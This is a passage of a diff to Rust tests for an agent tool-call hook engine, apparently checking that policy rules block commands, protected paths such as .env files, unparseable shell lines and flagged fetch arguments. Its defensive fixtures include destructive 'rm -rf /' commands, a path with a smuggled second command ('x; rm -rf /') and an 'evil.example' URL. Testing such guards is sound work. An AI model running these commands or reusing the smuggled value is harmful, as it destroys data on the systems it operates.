-        "version: 1\ndefaults: { onUnparseable: nomatch }\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: \"^rm\" }, action: block }\n",
-    );
-    let odd = tool_ctx("exec", "echo 'unterminated");
-    assert!(blocks(&strict, &odd).await, "match is the safe default");
-    assert!(!blocks(&lenient, &odd).await);
-    // Paths are not shell commands: they are matched as they are.
-    let read = HookContext::new("s").with_tool(
-        "Read",
-        json!({ "file_path": "x; rm -rf /" })
-            .as_object()
-            .cloned()
-            .unwrap_or_default(),
-    );
-    assert!(!blocks(&strict, &read).await);
-}
-
-#[tokio::test]
-async fn structured_filters_follow_on_unparseable_and_unparseable_ignores_it() {
-    let policy = |default: &str| {
-        engine(&format!(
-            "version: 1\ndefaults: {{ onUnparseable: {default} }}\nhooks:\n  \
-             - {{ name: cmd, point: turn:tool:pre, match: {{ command: {{ program: rm }} }}, action: block }}\n  \
-             - {{ name: path, point: turn:tool:pre, match: {{ pathGlob: '**/.env' }}, action: block }}\n  \
-             - {{ name: unread, point: subagent:tool:pre, match: {{ unparseable: true }}, action: block }}\n  \
-             - {{ name: read, point: subagent:tool:pre, match: {{ unparseable: false }}, action: block }}\n"
-        ))
-    };
-    let unreadable = tool_ctx("exec", "x=$(cat f); $x");
-    for default in ["match", "nomatch"] {
-        let e = policy(default);
-        let d = e.evaluate(Point::TurnToolPre, &unreadable).await;
-        assert_eq!(
-            d.decision == Verdict::Block,
-            default == "match",
-            "{default}: {d:?}"
-        );
-        // The hook's own filter decides, whatever the default says.
-        let d = e.evaluate(Point::SubagentToolPre, &unreadable).await;
-        assert_eq!(d.hook.as_deref(), Some("unread"), "{default}");
-        let d = e
-            .evaluate(Point::SubagentToolPre, &tool_ctx("exec", "ls"))
-            .await;
-        assert_eq!(d.hook.as_deref(), Some("read"), "{default}");
-    }
-    // Under `match`, a hook that blocks only because the line was unreadable says why.
-    let d = policy("match")
-        .evaluate(Point::TurnToolPre, &unreadable)
-        .await;
-    assert!(
-        d.message
-            .as_deref()
-            .is_some_and(|m| m
-                .contains("could not read this shell command: the program comes from a variable")),
-        "{d:?}"
-    );
-}
-
-#[tokio::test]
-async fn args_match_strings_lists_and_json_text_but_not_null_or_missing() {
-    let e = engine(
-        "version: 1\nhooks:\n  - { name: a, point: turn:tool:pre, match: { args: { url: 'evil', n: '^3$' } }, action: block }\n",
-    );
-    let call = |args: Value| {
-        HookContext::new("s").with_tool("fetch", args.as_object().cloned().unwrap_or_default())
-    };
-    for hit in [
-        json!({"url": "https://evil.example", "n": 3}),
-        json!({"url": ["https://ok", "https://evil"], "n": "3"}),
-    ] {
-        assert!(blocks(&e, &call(hit.clone())).await, "{hit}");
-    }
-    for miss in [
-        json!({"url": "https://ok", "n": 3}),
-        json!({"url": "https://evil"}),
-        json!({"url": null, "n": 3}),
-        json!({"url": "https://evil", "n": 33}),
-    ] {
-        assert!(!blocks(&e, &call(miss.clone())).await, "{miss}");
-    }
-}
-
-#[tokio::test]
-async fn a_tool_list_matches_any_of_its_tools_and_is_indexed_under_each() {
+async fn a_tool_list_is_indexed_under_each_of_its_tools_once() {
     let e = engine(
         "version: 1\nhooks:\n  - { name: shells, point: turn:tool:pre, match: { tool: [exec, Bash, exec], commandPattern: \"^rm\" }, action: block }\n",
-    );
-    assert!(blocks(&e, &tool_ctx("exec", "rm -rf /")).await);
-    assert!(blocks(&e, &tool_ctx("Bash", "rm -rf /")).await);
-    assert!(
-        !blocks(&e, &tool_ctx("bash", "rm -rf /")).await,
-        "exact, case-sensitive"
     );
     // Named twice, indexed once: the hook is one candidate, not two.
     assert_eq!(
